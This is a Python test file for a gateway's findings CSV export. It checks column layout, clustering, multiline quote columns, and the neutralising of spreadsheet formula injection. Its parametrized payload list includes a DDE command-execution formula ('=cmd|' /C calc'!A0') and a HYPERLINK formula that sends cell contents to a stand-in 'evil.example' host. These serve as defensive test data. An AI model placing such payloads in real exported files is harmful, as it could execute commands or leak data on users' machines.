"""Findings as CSV: as committed, read back whole, and no cell a formula."""

import csv
import io
import re
from dataclasses import fields, replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from roundtable_gateway.domain.finding import Finding, Quote
from roundtable_gateway.domain.run import RunDetail
from roundtable_gateway.exports.findings_csv import render, without_formula
from services.gateway.tests.support.log_samples import FINDING
from services.gateway.tests.support.reports import (
    HOSTILE,
    check_golden,
    hostile_everywhere,
    whole_roundtable,
    whole_run,
)

_GOLDEN = Path(__file__).parent / "golden" / "findings.csv"
_FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
    "\ufe661+1",
    "\ufe621+1",
    "\ufe631+1",
    "\ufe6bSUM(1,1)",
    "\u22121+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"open")',
]


def _rows(rendered: str) -> list[dict[str, str]]:
    return list(
        csv.DictReader(io.StringIO(rendered.removeprefix("\ufeff"), newline=""))
    )


def _written(text: str) -> RunDetail:
    """Return a run whose only finding is titled so."""
    return replace(whole_run(), findings=(replace(FINDING, title=text),))


def test_findings_are_as_committed() -> None:
    """A row each, verified ones first and of them the gravest, clusters together."""
    check_golden(render(whole_roundtable()), _GOLDEN)


def test_columns_are_the_contracts_fields() -> None:
    """Each field of a finding is there under its name, a quote's behind a dot."""
    header = next(iter(_rows(render(whole_run())))).keys()

    quotes = [f"quotes.{field.name}" for field in fields(Quote)]
    clusters = ["cluster.id", "cluster.lead_finding_id", "cluster.found_by"]
    expected = ["run_id", "engine", "persona.role", *clusters]
    for field in fields(Finding):
        expected += quotes if field.name == "quotes" else [field.name]
    assert list(header) == expected


def test_findings_of_one_cluster_stand_together() -> None:
    """The leading one first, each with whose cluster it is in."""
    rows = _rows(render(whole_roundtable()))

    members = [row for row in rows if row["cluster.id"] == "K1"]
    first = rows.index(members[0])
    assert rows[first : first + 3] == members
    assert [row["id"] for row in members] == ["A1", "C1", "X1"]
    assert {row["cluster.lead_finding_id"] for row in members} == {"A1"}
    assert {row["cluster.found_by"] for row in members} == {"both"}


def test_lists_are_one_entry_a_line() -> None:
    """Line n of each quote column is quote n, whatever breaks stand within."""
    quote = replace(FINDING.quotes[0], text="two\r\nlines\u2028here")
    finding = replace(
        FINDING, quotes=(quote, FINDING.quotes[1]), paragraph_ids=("P1", "P2")
    )

    (row,) = _rows(render(replace(whole_run(), findings=(finding,))))

    assert row["paragraph_ids"] == "P1\nP2"
    assert row["quotes.text"] == "two lines here\n"
    assert row["quotes.status"] == "normalized\nnot_found"
    assert row["quotes.start"] == "0\n"
    assert (row["verified"], row["disposition_reason"]) == ("true", "")


def test_run_without_findings_has_its_header() -> None:
    """An empty list is an answer."""
    rendered = render(replace(whole_run(), findings=()))

    assert rendered.startswith("\ufeffrun_id,engine,")
    assert rendered.count("\r\n") == 1


@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_was_written_stays_in_its_cell(hostile: str) -> None:
    """Quotation marks, delimiters and line breaks part no cell and no row."""
    (row,) = _rows(render(hostile_everywhere(hostile)[0]))

    assert row["title"] == without_formula(hostile)
    assert row["disposition_reason"] == without_formula(hostile)
    assert row["verified"] == "true"


@pytest.mark.parametrize("formula", _FORMULAS)
def test_formula_at_the_start_of_a_cell_is_prefixed(formula: str) -> None:
    """The first character is an apostrophe, and nothing is lost."""
    (row,) = _rows(render(_written(formula)))

    assert row["title"].startswith("'")
    assert row["title"].replace("'", "") == formula.replace("'", "")


@pytest.mark.parametrize("formula", _FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|", "\n", "\r\n", "\u2028"])
def test_formula_behind_a_delimiter_is_prefixed(delimiter: str, formula: str) -> None:
    """Whoever opens the file with another delimiter gets no formula either."""
    safe = without_formula(f'x"{delimiter}{formula}{delimiter}')

    for cell in re.split(r"[,;|\t\r\n\u2028]", safe):
        assert not re.match(
            r"[\s\"\x00\u200b\ufeff]*[=+@\uff1d\uff0b\uff0d\uff20-]", cell
        )


@pytest.mark.parametrize(
    "plain",
    ["", "A1", "well-known", "a = b", "e-mail me@example.org", "1 - 2", "(-5 %)"],
)
def test_plain_words_are_left_alone(plain: str) -> None:
    """Only what could be a formula is touched."""
    assert without_formula(plain) == plain


@given(st.text(st.sampled_from("=+-@'\" \t\r\n,;|a1\uff1d\u200b"), max_size=40))
def test_no_cell_ever_begins_like_a_formula(written: str) -> None:
    """For every text, under every delimiter, and nothing but apostrophes is added."""
    safe = without_formula(written)

    assert safe.replace("'", "") == written.replace("'", "")
    for delimiter in ",;|\t":
        for cell in csv.reader(io.StringIO(safe, newline=""), delimiter=delimiter):
            assert not [each for each in cell if re.match(r"\s*[=+@\uff1d-]", each)]


@pytest.mark.timeout(5)
@pytest.mark.parametrize("character", ["\t", " ", ",", "=", '"'])
def test_long_runs_take_no_longer_than_their_length(character: str) -> None:
    """A text of nothing else is no way to keep the gateway busy."""
    assert without_formula(character * 300_000).replace("'", "") == character * 300_000
